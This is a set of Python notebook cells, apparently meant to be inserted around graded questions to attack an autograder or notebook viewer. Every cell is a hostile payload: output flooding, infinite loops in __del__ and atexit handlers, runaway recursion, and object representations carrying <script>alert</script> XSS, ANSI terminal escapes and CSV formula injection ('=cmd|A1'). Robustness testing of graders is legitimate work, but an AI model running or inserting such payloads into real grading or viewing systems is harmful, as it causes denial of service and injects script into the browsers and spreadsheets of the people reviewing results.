# %% insert before q2_1
import os,sys
for i in range(200000): print('x'*1000,end='')
try: os.write(1,b'y'*10**7); os.write(2,b'y'*10**7)
except OSError: pass
class B:
    def __repr__(self): return '<script>alert(1)</script>\x1b[2J'*10**6
    def _repr_html_(self): return '<script>alert(2)</script>'*10**6
    def __del__(self):
        while True: pass
B()
# %% insert before q2_2
import sys; sys.setrecursionlimit(10**9)
class D:
    def __getattr__(s,n): return getattr(s,n+'x')
def f(n): return f(n+1)
D().a
# %% insert after check q2_2
import atexit,time
@atexit.register
def _():
    while True: time.sleep(1)
import weakref
class X: pass
x=X(); weakref.finalize(x,time.sleep,100)
raise type('\x1b[31mE<script>alert(3)</script>=cmd|A1',(Exception,),{})('\x1b]0;pwn\x07<img src=x onerror=alert(4)>\r\n=1+1,"')
